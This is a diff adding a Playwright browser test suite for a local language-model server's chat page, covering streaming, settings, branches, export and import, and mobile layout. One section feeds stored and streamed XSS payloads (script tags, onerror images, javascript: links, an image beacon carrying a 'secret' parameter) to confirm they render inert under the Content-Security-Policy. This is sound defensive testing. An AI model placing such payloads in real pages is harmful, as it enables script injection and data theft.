@@ -1,0 +1,435 @@
+"""The chat page in a real browser (Debian's Chromium, driven by Playwright) against the real
+server and model: streaming, stopping, settings, the rendered prompt, reloads, export and
+import, branches, hostile model output, the Content-Security-Policy, an API key, a phone."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.conftest import MODEL_ID, Server, running_server
+from tests.webui_browser import (  # noqa: F401 (browser_fixture: the fixture 'browser')
+    LogRecords,
+    assert_clean,
+    browser_fixture,
+    log_records,
+    new_page,
+    open_page,
+    send,
+    settings,
+    wait_for_answers,
+)
+
+# SmolLM2's end-of-turn token (<|im_end|>); banning it keeps the model talking.
+IM_END = "2"
+HOSTILE = (
+    "<img src=x onerror=\"window.__xss='img'\"> <script>window.__xss='script'</script> "
+    "[click me](javascript:window.__xss='link') <a href=\"javascript:window.__xss='a'\">a</a> "
+    "<iframe src=\"javascript:window.__xss='frame'\"></iframe> <javascript:window.__xss='auto'> "
+    "![pixel](https://example.invalid/beacon.png?secret=1)"
+)
+
+
+@pytest.fixture(scope="module")
+def webui_server(
+    tmp_path_factory: pytest.TempPathFactory, default_model_file: Path
+) -> Iterator[Server]:
+    with running_server(tmp_path_factory, default_model_file, "--parallel", "2") as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def records(webui_server: Server) -> Iterator[LogRecords]:
+    with log_records(webui_server.base_url) as log:
+        yield log
+
+
+@pytest.fixture()
+def page(browser: Any, webui_server: Server) -> Iterator[Any]:
+    page = new_page(browser, webui_server, viewport={"width": 1280, "height": 860})
+    yield page
+    try:
+        assert_clean(page)
+    finally:
+        page.context.close()
+
+
+def stored(server: Server, ident: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
+    response = httpx.get(f"{server.base_url}/lmserve/conversations/{ident}", headers=headers)
+    response.raise_for_status()
+    return response.json()
+
+
+def current_id(page: Any) -> str:
+    return page.evaluate("decodeURIComponent(location.hash.slice(1))")
+
+
+def seed_conversation(server: Server, title: str, answer: str, **extra: Any) -> str:
+    """A conversation written through the API, as if an earlier answer had said ``answer``."""
+    base = f"{server.base_url}/lmserve/conversations"
+    ident = httpx.post(base, json={"title": title}).json()["id"]
+    question = httpx.post(f"{base}/{ident}/messages", json={"role": "user", "content": "Hi"})
+    httpx.post(
+        f"{base}/{ident}/messages",
+        json={"role": "assistant", "content": answer, "parent_id": question.json()["id"], **extra},
+    ).raise_for_status()
+    return ident
+
+
+def words(text: str) -> list[str]:
+    return re.findall(r"[A-Za-z]+", text)
+
+
+def busy_slots(server: Server) -> int:
+    report = httpx.get(f"{server.base_url}/lmserve/slots").json()
+    return sum(slot["busy"] for model in report["models"] for slot in model["slots"])
+
+
+def generated_tokens(server: Server) -> int:
+    report = httpx.get(f"{server.base_url}/lmserve/slots").json()
+    return sum(model["engine"]["generated_tokens"] for model in report["models"])
+
+
+# -- chatting ---------------------------------------------------------------------------------
+
+
+def test_an_answer_streams_in_from_the_real_model(
+    page: Any, webui_server: Server, records: LogRecords
+) -> None:
+    open_page(page)
+    settings(page, max_tokens=24, temperature=0)
+    send(page, "Name three colours.")
+    # Text shows while the answer is still being generated: it streams.
+    page.wait_for_function(
+        "() => document.querySelector('.pending .content')?.textContent.length > 0"
+    )
+    answer = wait_for_answers(page)
+    conversation = stored(webui_server, current_id(page))
+    message = conversation["messages"][-1]
+    output = records.of(message["meta"]["request_id"], "output")
+    assert message["role"] == "assistant" and message["content"] == output["output"] != ""
+    # What shows is that text, rendered: its words, in order (markdown's marks aside).
+    shown = iter(words(answer.locator(".content").inner_text()))
+    assert all(word in shown for word in words(output["output"]))
+    stats = answer.locator(".stats").inner_text()
+    assert "tok/s" in stats and "first token" in stats
+    assert f"{output['stats']['completion_tokens']} tokens" in stats
+    assert page.locator(".conversation-list li.current").inner_text().startswith("Name three")
+
+
+def test_stop_ends_the_answer_and_frees_the_slot(page: Any, webui_server: Server) -> None:
+    open_page(page)
+    settings(page, max_tokens=2000, logit_bias=json.dumps({IM_END: -100}))
+    send(page, "Tell me a very long story about a lighthouse.")
+    page.wait_for_function(
+        "() => document.querySelector('.pending .content')?.textContent.length > 20",
+        timeout=120_000,
+    )
+    assert busy_slots(webui_server) == 1
+    page.click("#stop")
+    deadline = time.monotonic() + 10
+    while busy_slots(webui_server) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert busy_slots(webui_server) == 0
+    answer = wait_for_answers(page)
+    assert "stopped" in answer.locator(".stats").inner_text()
+    message = stored(webui_server, current_id(page))["messages"][-1]
+    assert message["meta"]["stopped"] is True and message["content"]  # what came is kept
+    # And the engine generates nothing more.
+    generated = generated_tokens(webui_server)
+    time.sleep(1.0)
+    assert generated_tokens(webui_server) == generated
+
+
+def test_the_settings_reach_the_model(page: Any, webui_server: Server, records: LogRecords) -> None:
+    sent: list[dict[str, Any]] = []
+    page.on(
+        "request",
+        lambda r: sent.append(r.post_data_json) if r.url.endswith("/chat/completions") else None,
+    )
+    open_page(page)
+    settings(
+        page,
+        system_prompt="You answer like a pirate.",
+        temperature=0.3,
+        top_p=0.9,
+        top_k=20,
+        max_tokens=3,
+        presence_penalty=0.5,
+        frequency_penalty=0.25,
+        repeat_penalty=1.2,
+        seed=1234,
+        stop="\\n\\n",
+        logit_bias=json.dumps({"28": 2.5}),
+        stream=False,
+    )
+    send(page, "Where is the treasure?")
+    answer = wait_for_answers(page)
+    body = sent[-1]
+    assert set(body) == {
+        *("model", "messages", "temperature", "top_p", "top_k", "max_tokens", "stream"),
+        *("stop", "presence_penalty", "frequency_penalty", "logit_bias", "repeat_penalty"),
+        "seed",
+    }
+    assert body["model"] == MODEL_ID and body["stream"] is False and body["stop"] == ["\n\n"]
+    message = stored(webui_server, current_id(page))["messages"][-1]
+    record = records.of(message["meta"]["request_id"], "input")
+    assert record["prompt"].startswith(
+        "<|im_start|>system\nYou answer like a pirate.<|im_end|>\n"
+        "<|im_start|>user\nWhere is the treasure?<|im_end|>\n"
+    )
+    expected = {
+        "temperature": 0.3,
+        "top_p": 0.9,
+        "top_k": 20,
+        "max_tokens": 3,
+        "presence_penalty": 0.5,
+        "frequency_penalty": 0.25,
+        "repeat_penalty": 1.2,
+        "seed": 1234,
+        "stop": ["\n\n"],
+        "logit_bias": {"28": 2.5},
+    }
+    assert {name: record["parameters"][name] for name in expected} == expected
+    answer.locator("details.prompt summary").click()
+    shown = json.loads(answer.locator(".params").inner_text())
+    assert {name: shown[name] for name in expected} == expected
+    # The settings were kept with the conversation.
+    kept = stored(webui_server, current_id(page))["settings"]
+    assert kept["system_prompt"] == "You answer like a pirate." and kept["seed"] == 1234
+    assert kept["stream"] is False and kept["logit_bias"] == {"28": 2.5}
+
+
+def test_the_prompt_view_shows_what_the_template_made(
+    page: Any, webui_server: Server, records: LogRecords
+) -> None:
+    open_page(page)
+    settings(page, max_tokens=4)
+    send(page, "Hello there")
+    answer = wait_for_answers(page)
+    request_id = stored(webui_server, current_id(page))["messages"][-1]["meta"]["request_id"]
+    record = records.of(request_id, "input")
+    summary = answer.locator("details.prompt summary")
+    assert summary.inner_text() == f"What the model received: {record['prompt_tokens']} tokens"
+    prompt = answer.locator(".prompt-text")
+    assert not prompt.is_visible()  # collapsed until asked for
+    summary.click()
+    shown = prompt.inner_text()
+    # The page sent no system message: this one is SmolLM2's template's own default.
+    assert shown.startswith("<|im_start|>system\nYou are a helpful AI assistant named SmolLM")
+    assert shown.endswith("<|im_start|>user\nHello there<|im_end|>\n<|im_start|>assistant\n")
+    assert shown == record["prompt"]
+
+
+def test_a_reload_and_another_tab_keep_the_conversation(
+    page: Any, browser: Any, webui_server: Server
+) -> None:
+    open_page(page)
+    settings(page, max_tokens=4)
+    send(page, "Remember the word lantern.")
+    wait_for_answers(page)
+    before = page.locator("#messages").inner_text()
+    ident = current_id(page)
+    page.reload()
+    page.wait_for_selector("html[data-ready]")
+    page.wait_for_selector(".message.assistant")
+    assert current_id(page) == ident and page.locator("#messages").inner_text() == before
+    other = new_page(browser, webui_server)
+    try:
+        open_page(other)
+        other.locator(f".conversation-list li[data-id='{ident}'] .open").click()
+        other.wait_for_selector(".message.assistant")
+        assert "Remember the word lantern." in other.locator("#messages").inner_text()
+        assert_clean(other)
+    finally:
+        other.context.close()
+
+
+def test_export_then_import(page: Any, webui_server: Server, tmp_path: Path) -> None:
+    ident = seed_conversation(webui_server, "Exported", "An answer with **bold** text.")
+    open_page(page, f"/#{ident}")
+    with page.expect_download() as download:
+        page.locator(f".conversation-list li[data-id='{ident}'] .export").click()
+    saved = tmp_path / "export.json"
+    download.value.save_as(saved)
+    exported = json.loads(saved.read_text())
+    assert [c["id"] for c in exported["conversations"]] == [ident]
+    page.set_input_files("#import-file", str(saved))
+    page.wait_for_function(
+        "() => document.querySelector('#status').textContent === 'Imported 1 conversation.'"
+    )
+    copy = current_id(page)
+    assert copy != ident
+    assert page.locator(".message.assistant .content strong").inner_text() == "bold"
+    assert [m["content"] for m in stored(webui_server, copy)["messages"]] == [
+        "Hi",
+        "An answer with **bold** text.",
+    ]
+    # A file that is not an export: the server's 400 is shown, nothing is added.
+    count = page.locator(".conversation-list li").count()
+    bad = tmp_path / "bad.json"
+    bad.write_text('{"format": "lmserve.conversations", "version": 1, "conversations": [')
+    page.set_input_files("#import-file", str(bad))
+    page.wait_for_selector("#status.error")
+    assert "JSON" in page.inner_text("#status")
+    assert page.locator(".conversation-list li").count() == count
+
+
+def test_regenerate_and_edit_make_branches(page: Any, webui_server: Server) -> None:
+    open_page(page)
+    settings(page, max_tokens=3)
+    send(page, "Say a word.")
+    first = wait_for_answers(page).locator(".content").inner_text()
+    page.locator(".message.assistant .regenerate").click()
+    answer = wait_for_answers(page, 2)
+    assert answer.locator(".branch-count").inner_text() == "2/2"
+    answer.locator(".branch-prev").click()
+    page.wait_for_function(
+        "() => document.querySelector('.message.assistant .branch-count')?.textContent === '1/2'"
+    )
+    assert page.locator(".message.assistant .content").inner_text() == first
+    page.locator(".message.user .edit").click()
+    page.locator(".edit-box textarea").fill("Say another word.")
+    page.locator(".save-edit").click()
+    wait_for_answers(page, 3)
+    page.wait_for_function(
+        "() => document.querySelector('.message.user .branch-count')?.textContent === '2/2'"
+    )
+    assert page.locator(".message.user .content").inner_text() == "Say another word."
+    conversation = stored(webui_server, current_id(page))
+    roles = [m["role"] for m in conversation["messages"]]
+    assert roles == ["user", "assistant", "assistant", "user", "assistant"]
+    assert conversation["current_leaf"] == conversation["messages"][-1]["id"]
+
+
+# -- hostile output, the policy ---------------------------------------------------------------
+
+
+def assert_shown_as_text(page: Any, scope: str) -> None:
+    text = page.locator(scope).inner_text()
+    assert "<img src=x onerror=" in text and "<script>" in text and "javascript:" in text
+    for selector in ("img", "script", "iframe", "a[href^='javascript']", "[onerror]"):
+        assert page.locator(f"#messages {selector}").count() == 0, selector
+
+
+def test_stored_hostile_html_is_shown_as_text(page: Any, webui_server: Server) -> None:
+    call = {"id": "c1", "type": "function", "function": {"name": "x", "arguments": HOSTILE}}
+    title = "<img src=x onerror=\"window.__xss='title'\">"
+    ident = seed_conversation(
+        webui_server, title, HOSTILE, reasoning_content=HOSTILE, tool_calls=[call]
+    )
+    open_page(page, f"/#{ident}")
+    page.wait_for_selector(".message.assistant")
+    page.locator(".message.assistant details.reasoning summary").click()
+    assert_shown_as_text(page, ".message.assistant .content")
+    assert_shown_as_text(page, ".message.assistant .reasoning")
+    assert_shown_as_text(page, ".message.assistant .tool-call")
+    page.get_by_text("click me", exact=False).first.click()  # not a link: nothing happens
+    assert page.url.endswith(f"#{ident}")
+    assert page.locator("#chat-title").inner_text() == title  # the title too
+
+
+def test_a_streamed_answer_with_html_runs_nothing(
+    page: Any, webui_server: Server, records: LogRecords
+) -> None:
+    """A real answer from the model, streamed token by token, that holds the payload: the
+    structured-output setting's JSON schema makes ``const`` the only thing it may write
+    (sampled under a grammar), so the model says it every time."""
+    payload = (
+        "<img src=x onerror=window.__xss=1> <script>window.__xss=2</script> "
+        "[click](javascript:window.__xss=3)"
+    )
+    schema = {
+        "type": "object",
+        "properties": {"html": {"const": payload}},
+        "required": ["html"],
+        "additionalProperties": False,
+    }
+    open_page(page)
+    settings(page, response_format=json.dumps(schema))
+    send(page, "Write some HTML.")
+    answer = wait_for_answers(page)
+    message = stored(webui_server, current_id(page))["messages"][-1]
+    assert payload in records.of(message["meta"]["request_id"], "output")["output"]
+    assert payload in answer.locator(".content").inner_text()
+    assert_shown_as_text(page, ".message.assistant .content")
+
+
+def test_no_policy_violation_from_the_page_and_the_watch_works(
+    page: Any, webui_server: Server
+) -> None:
+    markdown = (
+        "# Title\n\n| left | middle | right |\n|:--|:-:|--:|\n| a | b | c |\n\n"
+        "```python\ndef add(a, b):\n    return a + b\n```\n\n> quote, `code`, [a link](https://example.org)"
+    )
+    ident = seed_conversation(webui_server, "Markdown", markdown)
+    open_page(page, f"/#{ident}")
+    page.wait_for_selector(".message.assistant .code-bar")
+    assert page.locator(".md .hljs-keyword").first.inner_text() == "def"  # highlighted
+    assert page.locator(".md td.align-right").count() == 1  # alignment without style=""
+    link = page.locator(".md a")
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    for button in ("#toggle-settings", "#toggle-logs", "#theme", "#theme", "#toggle-logs"):
+        page.click(button)
+    page.click("#chat-title")
+    page.keyboard.press("Escape")
+    assert page.evaluate("window.__violations") == []
+    # The watch itself: a string into innerHTML (Trusted Types) and an image from elsewhere
+    # are refused and reported.
+    refused = page.evaluate(
+        """() => { try { document.body.innerHTML = '<b>x</b>'; return false; }
+                   catch (error) { return error instanceof TypeError; } }"""
+    )
+    page.evaluate(
+        "() => { const i = new Image(); i.src = 'https://example.invalid/p.png'; "
+        "document.body.append(i); }"
+    )
+    page.wait_for_function("() => window.__violations.length >= 2")
+    directives = {v["directive"] for v in page.evaluate("window.__violations")}
+    assert refused and {"require-trusted-types-for", "img-src"} <= directives
+    page.evaluate("window.__violations = []")
+
+
+# -- a phone ----------------------------------------------------------------------
+
+
+def test_a_phone_width_and_both_themes(browser: Any, webui_server: Server) -> None:
+    page = new_page(browser, webui_server, viewport={"width": 390, "height": 844}, has_touch=True)
+    try:
+        open_page(page)
+        assert page.evaluate("document.scrollingElement.scrollWidth") <= 390  # no sideways
+        assert page.locator("#sidebar").bounding_box()["x"] < 0  # tucked away
+        page.click("#open-sidebar")
+        page.wait_for_function(
+            "() => document.querySelector('#sidebar').getBoundingClientRect().x >= 0"
+        )
+        page.click("#close-sidebar")
+        composer = page.locator("#input").bounding_box()
+        assert composer["width"] > 250 and composer["y"] + composer["height"] <= 844
+        # Keys: / focuses the message box, Alt+S opens the settings, Esc closes them.
+        page.keyboard.press("/")
+        assert page.evaluate("document.activeElement.id") == "input"
+        page.keyboard.press("Alt+s")
+        assert page.locator("#settings").is_visible()
+        assert page.locator("#settings").bounding_box()["width"] == 390  # the whole screen
+        page.keyboard.press("Escape")
+        assert not page.locator("#settings").is_visible()
+        backgrounds = []
+        for theme in ("light", "dark"):
+            page.click("#theme")
+            assert page.evaluate("document.documentElement.dataset.theme") == theme
+            backgrounds.append(page.evaluate("getComputedStyle(document.body).backgroundColor"))
+        assert backgrounds == ["rgb(255, 255, 255)", "rgb(21, 23, 28)"]
+        page.reload()
+        page.wait_for_selector("html[data-ready]")
+        assert page.evaluate("document.documentElement.dataset.theme") == "dark"  # remembered
+        assert_clean(page)
+    finally:
+        page.context.close()
